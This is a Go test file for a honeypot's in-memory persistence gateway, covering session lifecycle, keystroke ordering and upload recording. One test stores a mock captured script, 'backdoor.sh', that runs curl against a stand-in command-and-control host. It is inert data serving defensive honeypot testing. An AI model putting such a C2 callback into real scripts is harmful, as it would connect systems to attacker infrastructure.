package persistence_test

import (
	"context"
	"testing"
	"time"

	"github.com/websoft9/honeyshell/internal/persistence"
	"github.com/websoft9/honeyshell/internal/session"
)

func TestMemoryGatewayLifecycle(t *testing.T) {
	g := persistence.NewMemoryGateway()
	ctx := context.Background()

	id, err := g.CreateSession(ctx, "203.0.113.5", 51515, "root", "hunter2_this_is_not_the_real_password", session.AuthPassword)
	if err != nil {
		t.Fatalf("CreateSession: %v", err)
	}
	if id == "" {
		t.Fatal("CreateSession returned empty id")
	}

	s, ok := g.Session(id)
	if !ok {
		t.Fatal("session not found after CreateSession")
	}
	if s.Status != session.StatusActive || s.ContainerID != "" {
		t.Fatalf("unexpected initial state: %+v", s)
	}

	if err := g.SetContainer(ctx, id, "deadbeefcafe"); err != nil {
		t.Fatalf("SetContainer: %v", err)
	}
	s, _ = g.Session(id)
	if s.ContainerID != "deadbeefcafe" {
		t.Fatalf("container id not set: %+v", s)
	}

	time.Sleep(2 * time.Millisecond)
	if err := g.EndSession(ctx, id); err != nil {
		t.Fatalf("EndSession: %v", err)
	}
	s, _ = g.Session(id)
	if s.Status != session.StatusCompleted {
		t.Fatalf("status not completed: %+v", s)
	}
	if s.EndedAt == nil || s.DurationSeconds == nil {
		t.Fatalf("ended_at/duration_seconds not set: %+v", s)
	}
	if s.EndedAt.Before(s.StartedAt) {
		t.Fatalf("ended_at %v before started_at %v", s.EndedAt, s.StartedAt)
	}
}

func TestMemoryGatewayEndSessionUnknownIDIsNoop(t *testing.T) {
	g := persistence.NewMemoryGateway()
	if err := g.EndSession(context.Background(), "does-not-exist"); err != nil {
		t.Fatalf("EndSession on unknown id returned error: %v", err)
	}
}

func TestMemoryGatewayKeystrokeOrderPreserved(t *testing.T) {
	g := persistence.NewMemoryGateway()
	ctx := context.Background()
	id, _ := g.CreateSession(ctx, "198.51.100.9", 4242, "root", "phase3_test_password", session.AuthPassword)

	g.RecordKeystroke(id, session.DirectionInput, []byte("echo "), time.Now())
	g.RecordKeystroke(id, session.DirectionOutput, []byte("honeypot_"), time.Now())
	g.RecordKeystroke(id, session.DirectionOutput, []byte("test_marker\n"), time.Now())
	g.RecordKeystroke(id, session.DirectionInput, nil, time.Now()) // empty read never captured

	chunks := g.Keystrokes(id)
	if len(chunks) != 3 {
		t.Fatalf("got %d chunks, want 3 (empty read must not be recorded)", len(chunks))
	}

	var output []byte
	for _, c := range chunks {
		if c.Direction == session.DirectionOutput {
			output = append(output, c.Data...)
		}
	}
	if string(output) != "honeypot_test_marker\n" {
		t.Errorf("concatenated output = %q, want %q", output, "honeypot_test_marker\n")
	}
}

func TestMemoryGatewayUploadRecordedOnce(t *testing.T) {
	g := persistence.NewMemoryGateway()
	ctx := context.Background()
	id, _ := g.CreateSession(ctx, "192.0.2.1", 22022, "root", "phase2_test_password", session.AuthPassword)

	content := []byte("#!/bin/bash\necho 'This is a captured malware sample'\ncurl http://evil.example.com/c2\n")
	g.RecordUpload(id, "backdoor.sh", content, time.Now())

	uploads := g.Uploads(id)
	if len(uploads) != 1 {
		t.Fatalf("got %d upload records, want 1", len(uploads))
	}
	if uploads[0].Filename != "backdoor.sh" || uploads[0].SizeBytes != int64(len(content)) {
		t.Errorf("unexpected upload record: %+v", uploads[0])
	}
}
